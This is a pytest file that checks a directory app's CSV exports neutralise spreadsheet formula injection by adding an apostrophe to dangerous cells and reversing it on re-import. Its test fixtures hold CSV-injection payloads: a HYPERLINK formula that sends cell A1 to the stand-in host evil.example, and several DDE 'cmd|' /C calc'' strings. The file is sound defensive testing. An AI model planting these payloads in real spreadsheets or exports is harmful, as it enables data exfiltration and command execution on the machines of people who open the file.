"""Every CSV we write neutralises spreadsheet formulas (issue #13 item 6)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from directory_app import db
from directory_app.directory.jobs import import_file
from directory_app.models import Service
from directory_app.web import csv_output

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "description": "+cmd|' /C calc'!A0",
    "cost_description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "schedule_description": "-2+3+cmd|' /C calc'!A0",
    "accessibility": "\t=1+1",
    "location_name": "\r=1+1",
}


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-1+cmd|x", "'-1+cmd|x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+44 161 496 0000", "+44 161 496 0000"),
        ("-3.5", "-3.5"),
        ("Sale = good", "Sale = good"),
        (-3, -3),
        (None, ""),
        ("<5", "<5"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value, written):
    assert csv_output.safe_cell(value) == written
    if isinstance(written, str):
        assert csv_output.unescape_cell(written) == ("" if value is None else value)


def test_cli_export_writes_no_live_formulas_and_reimports_the_same_text(app, runner, make_service, tmp_path):
    """Defect: `flask export --format csv` wrote =HYPERLINK(…), +cmd|…, @SUM(…) live."""
    service_id = make_service(phone="+353 1 234 5678", **HOSTILE)
    out = tmp_path / "directory.csv"
    result = runner.invoke(args=["export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 1
    for column, cell in rows[0].items():
        # A phone number or a plain number (longitude -2.3221) cannot be a formula and stays as is.
        assert column in ("phone", "longitude") or not cell.startswith(csv_output.FORMULA_START), cell
    assert rows[0]["longitude"].startswith("-2.")
    assert rows[0]["name"] == "'" + HOSTILE["name"]
    assert (
        rows[0]["phone"] == "+353 1 234 5678"
    )  # a phone number (from abroad, so kept with its +) is not a formula

    # Re-importing our own export gives back the text as it was typed, not with apostrophes.
    report = import_file(app, out.read_bytes(), "directory.csv", "another-directory", actor="test")
    assert report.created == 1 and not report.errors, report.errors
    with db.session_scope(app) as session:
        copy = session.exec(select(Service).where(Service.id != service_id)).one()
        assert copy.name == HOSTILE["name"] and copy.description == HOSTILE["description"]


def test_gap_report_and_referral_csvs_use_the_same_writer(app):
    from directory_app.referrals import stats
    from directory_app.reports import export as report_export

    row = {column: None for column in report_export.COLUMNS}
    row.update(area_name='=HYPERLINK("x")', place="@SUM(A1)", local_count=3)
    text = report_export.to_csv([row])
    assert "'=HYPERLINK" in text and "'@SUM" in text

    group = {
        "code": "+cmd|x",
        "name": "-2+cmd|x",
        "acceptance_rate": None,
        "completion_rate": None,
        "wellbeing": {"people": "<5", **{name: None for name in stats.ONS4}},
        **{key: 0 for key in stats.COUNT_KEYS},
    }
    text = stats.to_csv({"by_need": [group], "by_service": []})
    line = text.splitlines()[1]
    assert ",'+cmd|x,'-2+cmd|x," in line and "<5" in line
